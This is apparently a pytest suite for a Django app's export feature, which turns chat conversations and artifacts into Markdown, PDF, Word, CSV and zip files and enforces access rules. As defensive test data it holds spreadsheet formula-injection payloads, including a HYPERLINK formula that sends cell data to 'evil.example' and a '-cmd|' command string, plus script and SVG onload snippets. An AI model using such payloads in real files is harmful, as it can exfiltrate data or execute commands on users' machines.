"""Artifacts and conversations as files."""

from __future__ import annotations

import base64
import csv
import io
import json
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from docx import Document
from PIL import Image
from pypdf import PdfReader

from agents.messages import AssistantText, UserMessage
from artifacts import exports
from artifacts.exports import ExportSource, artifact_download, markdown_table
from artifacts.kinds import IMAGE, SHEET
from chat.models import Conversation, Message
from files.models import File
from security.models import AuditEvent
from tenants.context import tenant_tx
from tests.artifacts.support import make_artifact
from tests.rest.conftest import post, signed_in
from tests.rest.export_requests import BASE, TEXT, _message, export, talk
from tests.support.accounts.cast import Cast
from tests.support.files.documents import PICTURE

__all__ = ["talk"]


def test_a_text_becomes_markdown_pdf_and_docx(cast: Cast) -> None:
    artifact = make_artifact(cast.actor(cast.alice), TEXT, title="Tee: Über/blick").artifact
    path, alice = f"artifacts/{artifact.pk}/export/?format=", signed_in(cast.alice)
    status, disposition, content = export(alice, f"{path}md&version=1")
    assert (status, content.decode()) == (200, TEXT)
    assert disposition == "attachment; filename*=utf-8''Tee-%20%C3%9Cber-blick.md"
    text = PdfReader(io.BytesIO(export(alice, f"{path}pdf")[2])).pages[0].extract_text()
    assert all(word in text for word in ("Grüner Tee", "ΩΨΔ", "fett", "漢字", "<script>x</script>"))
    document = Document(io.BytesIO(export(alice, f"{path}docx")[2]))
    assert [paragraph.text for paragraph in document.paragraphs][:3] == ["Grüner Tee 🍵", "ΩΨΔ fett 漢字 <script>x</script>", "one"]
    assert [cell.text for cell in document.tables[0].rows[1].cells] == ["1", "2"]


@pytest.mark.parametrize(
    ("kind", "title", "form", "name", "content"),
    [
        ("python", "Plot.py", "py", "Plot.py", "a `b`\n"),
        ("python", "Plot", "md", "Plot.md", "# Plot\n\n```python\na `b`\n```\n"),
        ("mermaid", "Flow", "source", "Flow.mmd", "a `b`\n"),
        ("code", "server.ts", "source", "server.ts", "a `b`\n"),
        ("sheet", "..", "csv", "file.csv", "a `b`\n"),
    ],
)
def test_each_kind_has_its_files(cast: Cast, kind: str, title: str, form: str, name: str, content: str) -> None:
    artifact = make_artifact(cast.actor(cast.alice), "a `b`\n", kind=kind, title=title).artifact
    status, disposition, file_bytes = export(signed_in(cast.alice), f"artifacts/{artifact.pk}/export/?format={form}")
    assert (status, file_bytes.decode(), disposition) == (200, content, f'attachment; filename="{name}"')
    response = signed_in(cast.alice).get(f"{BASE}artifacts/{artifact.pk}/export/?format=png")
    assert (response.status_code, response.json()["error"]["code"]) == (400, "format_unknown")


@pytest.mark.parametrize("form", ["csv", "source"])
def test_a_sheets_formulas_are_text_unless_they_are_asked_for(cast: Cast, form: str) -> None:
    sheet = 'name;cost\n=HYPERLINK("https://evil.example?"&A1);-1,5\n"\t=1+1";+3 %\n\uff1d1+1;@SUM(A1)\n" -cmd|x";a=b\n'
    artifact = make_artifact(cast.actor(cast.alice), sheet, kind="sheet", title="Costs").artifact
    path, alice = f"artifacts/{artifact.pk}/export/?format={form}", signed_in(cast.alice)
    rows = list(csv.reader(io.StringIO(export(alice, path)[2].decode()), delimiter=";"))
    assert rows == [
        ["name", "cost"],
        ['\'=HYPERLINK("https://evil.example?"&A1)', "-1,5"],
        ["'\t=1+1", "+3 %"],
        ["'\uff1d1+1", "'@SUM(A1)"],
        ["' -cmd|x", "a=b"],
    ]
    assert export(alice, f"{path}&formulas=kept")[2].decode() == sheet
    assert export(alice, f"{path}&formulas=maybe")[0] == 400


def test_only_so_many_files_are_made_at_once(cast: Cast, monkeypatch: pytest.MonkeyPatch) -> None:
    artifact = make_artifact(cast.actor(cast.alice), TEXT).artifact
    monkeypatch.setattr(exports, "MAX_SLOT_WAIT_S", 0.01)
    with exports.slots, exports.slots:
        response: Any = signed_in(cast.alice).get(f"{BASE}artifacts/{artifact.pk}/export/?format=pdf")
    assert (response.status_code, response.json()["error"]["code"], response.headers["Retry-After"]) == (503, "busy", "2")


def test_a_wide_sheet_of_another_country_becomes_a_pdf() -> None:
    head, row = (";".join(f"{word}{n}" for n in range(60)) for word in ("h", "v"))
    download = artifact_download(ExportSource("Costs", SHEET, f'\ufeff"a;\nb";{head}\n1,5;{row}\n'), "pdf")
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(download.content)).pages).split()
    assert {"1,5", "h0", "v0", "h59", "v59"} <= set(text)
    assert markdown_table("a\tb\n1,5\t2\n") == "| a | b |\n| --- | --- |\n| 1,5 | 2 |\n"


def test_a_photo_for_print_becomes_a_png() -> None:
    photo = io.BytesIO()
    Image.new("CMYK", (4, 4)).save(photo, "JPEG")
    download = artifact_download(ExportSource("Photo", IMAGE, "", (photo.getvalue(), "image/jpeg")), "png")
    assert Image.open(io.BytesIO(download.content)).mode == "RGB"


def test_a_conversation_that_is_too_much_for_a_file_is_refused(cast: Cast, talk: Conversation, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("chat.conversations.export.MAX_EXPORT_CHARS", 2 * len(TEXT) + 10)  # the versions alone would fit
    for form in ("md", "docx", "zip&versions=all", "json"):
        response: Any = signed_in(cast.alice).get(f"{BASE}conversations/{talk.pk}/export/?format={form}")
        assert (response.status_code, response.json()["error"]["code"]) == (413, "export_too_large"), form


def test_a_conversation_is_exported_whole(cast: Cast, talk: Conversation) -> None:
    alice, path = signed_in(cast.alice), f"conversations/{talk.pk}/export/?format="
    status, disposition, content = export(alice, f"{path}md")
    text = content.decode()
    assert (status, disposition) == (200, 'attachment; filename="Tea- a-b.md"')
    words = ["# Tea: a/b", "What is tea?", "*Tool: web_search*", '{"query": "tea"}', "A drink.", "A *drink*.", "## Tea plan", "more"]
    places = [text.index(word) for word in words]
    assert places == sorted(places)
    whole = json.loads(export(alice, f"{path}json")[2])
    assert [message["role"] for message in whole["messages"]] == ["user", "assistant"]
    assert [entry["kind"] for entry in whole["messages"][1]["entries"]] == ["tool_call", "tool_result", "assistant_text"]
    assert [version["content"] for version in whole["artifacts"][0]["versions"]] == [TEXT, TEXT + "more\n"]
    assert "A drink." in "".join(page.extract_text() for page in PdfReader(io.BytesIO(export(alice, f"{path}pdf")[2])).pages)


def test_other_branches_pictures_and_all_versions_are_exported_when_asked_for(cast: Cast, talk: Conversation) -> None:
    alice, path = signed_in(cast.alice), f"conversations/{talk.pk}/export/?format="
    file = alice.post(f"{BASE}files/", {"file": SimpleUploadedFile("leaf.png", PICTURE)}).json()
    for title, extra in (
        ("Photo", {"kind": "image", "fileId": file["id"]}),
        ("Tea plan", {"kind": "sheet", "content": "leaf,grams\nSencha,4\n"}),
    ):
        assert post(alice, f"{BASE}conversations/{talk.pk}/artifacts/", {"title": title, **extra}).status_code == 201
    with tenant_tx(cast.acme.pk):
        first = Message.objects.get(conversation=talk, parent=None)
        answers = [("assistant", first, AssistantText("## Another *answer*.")), ("user", None, UserMessage("And coffee?"))]
        for role, parent, entry in answers:
            _message(talk, role, parent, entry)
    visible_branch, everything = (export(alice, f"{path}md&branches={branches}")[2].decode() for branches in ("shown", "all"))
    assert "Another" not in visible_branch
    words = [
        "## Branch 1",
        "A *drink*.",
        "## Branch 2",
        "Instead of “A *drink*.”",
        "## Another *answer*.",
        "## Branch 3",
        "And coffee?",
        "## Tea plan",
    ]
    places = [everything.index(word) for word in words]
    assert places == sorted(places)

    document = Document(io.BytesIO(export(alice, f"{path}docx&branches=all")[2]))
    styles = {(paragraph.text, paragraph.style.name if paragraph.style else "") for paragraph in document.paragraphs}
    assert {("Tea: a/b", "Title"), ("Branch 2", "Heading 1"), ("You", "Heading 2"), ("one", "List Bullet")} <= styles
    assert ("Another answer.", "Heading 4") in styles  # below the heading that says who wrote it
    assert {("Tool: web_search", "Note"), ("A drink.", "Code")} <= styles
    assert [[cell.text for cell in row.cells] for row in document.tables[-1].rows] == [["leaf", "grams"], ["Sencha", "4"]]
    assert [shape._inline.docPr.get("descr") for shape in document.inline_shapes] == ["Photo"]
    pages = PdfReader(io.BytesIO(export(alice, f"{path}pdf&branches=all")[2])).pages
    assert "Another answer." in "".join(page.extract_text() for page in pages)
    [picture] = [Image.open(io.BytesIO(image.data)) for page in pages for image in page.images]
    assert picture.size == Image.open(io.BytesIO(PICTURE)).size

    for versions, names in (
        ("latest", ["Tea plan.md", "Photo.png", "Tea plan (2).csv"]),
        ("all", ["Tea plan/version 1.md", "Tea plan/version 2.md", "Photo/version 1.png", "Tea plan (2)/version 1.csv"]),
    ):
        archive = zipfile.ZipFile(io.BytesIO(export(alice, f"{path}zip&versions={versions}&branches=all")[2]))
        assert archive.testzip() is None
        assert archive.namelist() == ["conversation.md", *(f"documents/{name}" for name in names)]
        assert "And coffee?" in archive.read("conversation.md").decode()
        assert archive.read(f"documents/{names[-2]}") == PICTURE


def test_documents_of_one_name_stay_apart_in_a_zip_and_a_deleted_picture_is_left_out(cast: Cast, talk: Conversation) -> None:
    alice, path = signed_in(cast.alice), f"{BASE}conversations/{talk.pk}/artifacts/"
    file = alice.post(f"{BASE}files/", {"file": SimpleUploadedFile("leaf.png", PICTURE)}).json()
    for title, extra in (
        ("Tea plan", {"kind": "text", "content": "second"}),
        ("Photo", {"kind": "image", "fileId": file["id"]}),
        ("tea plan (2)", {"kind": "text", "content": "third"}),
    ):
        assert post(alice, path, {"title": title, **extra}).status_code == 201
    with tenant_tx(cast.acme.pk):
        File.objects.update(deleted_at=timezone.now())
    archive = zipfile.ZipFile(io.BytesIO(export(alice, f"conversations/{talk.pk}/export/?format=zip")[2]))
    names = [f"documents/{name}.md" for name in ("Tea plan", "Tea plan (2)", "tea plan (2) (2)")]
    assert archive.namelist() == ["conversation.md", *names]
    assert archive.read(names[2]) == b"third"


def test_other_members_can_neither_export_nor_create(cast: Cast, talk: Conversation) -> None:
    new = {"title": "x", "kind": "text"}
    for user, slug in ((cast.bob, "acme"), (cast.charlie, "other"), (cast.charlie, "acme")):
        client, path = signed_in(user), f"/o/{slug}/api/conversations/{talk.pk}/"
        for form in ("json", "md", "pdf", "docx", "zip&branches=all&versions=all"):
            assert client.get(f"{path}export/?format={form}").status_code == 404
        assert post(client, f"{path}artifacts/", new).status_code == 404
    assert post(signed_in(cast.vera), f"{BASE}conversations/{talk.pk}/artifacts/", new).status_code == 403
    file = signed_in(cast.bob).post(f"{BASE}files/", {"file": SimpleUploadedFile("a.png", PICTURE)}).json()
    foreign = post(
        signed_in(cast.alice), f"{BASE}conversations/{talk.pk}/artifacts/", {"title": "x", "kind": "image", "fileId": file["id"]}
    )
    assert foreign.status_code == 404


def test_diagrams_that_the_browser_drew_are_pictures_in_pdf_and_word(cast: Cast, talk: Conversation) -> None:
    source, invalid_source = "flowchart TD\n  A --> B", "pie\n  title X"
    text = f"# Plan\n\n```mermaid\n{source}\n```\n\n```mermaid\n{invalid_source}\n```\n\n- nested\n"
    alice, actor = signed_in(cast.alice), cast.actor(cast.alice)
    document = make_artifact(actor, text, conversation_id=talk.pk, title="Plan").artifact
    make_artifact(actor, source, conversation_id=talk.pk, title="Flow", kind="mermaid")
    png = io.BytesIO()
    Image.new("RGBA", (40, 20), "red").save(png, "PNG")
    diagrams = [
        {"source": source, "png": base64.b64encode(png.getvalue()).decode()},
        {"source": invalid_source, "png": base64.b64encode(b"<svg onload='x'/>").decode()},
    ]
    path = f"{BASE}artifacts/{document.pk}/export/"
    whole = f"{BASE}conversations/{talk.pk}/export/"
    assert alice.get(f"{whole}diagrams/").json() == {"items": [source, invalid_source]}
    for address, pictures in ((path, 1), (whole, 2)):
        pdf = PdfReader(io.BytesIO(post(alice, address, {"format": "pdf", "diagrams": diagrams}).content))
        assert [len(page.images) for page in pdf.pages] == [1]  # one picture, wherever it is drawn
        pdf_text = "".join(page.extract_text() for page in pdf.pages)
        assert ("A --> B" in pdf_text, "title X" in pdf_text) == (False, True)  # what nobody could draw stays as its source
        word = Document(io.BytesIO(post(alice, address, {"format": "docx", "diagrams": diagrams}).content))
        assert len(word.inline_shapes) == pictures
    with tenant_tx(cast.acme.pk):
        for action in ("artifact.export", "conversation.export"):
            assert AuditEvent.objects.filter(action=action).count() == 2
    for wrong in (
        {"format": "md"},
        {"format": "pdf", "diagrams": [{"source": source, "png": "<svg>"}]},
        {"format": "pdf", "diagrams": diagrams * 21},
    ):
        assert [post(alice, address, wrong).status_code for address in (path, whole)] == [400, 400], wrong
    for client in (signed_in(cast.bob), signed_in(cast.charlie)):
        answers = [post(client, address, {"format": "pdf", "diagrams": diagrams}) for address in (path, whole)]
        assert [answer.status_code for answer in (*answers, client.get(f"{whole}diagrams/"))] == [404] * 3
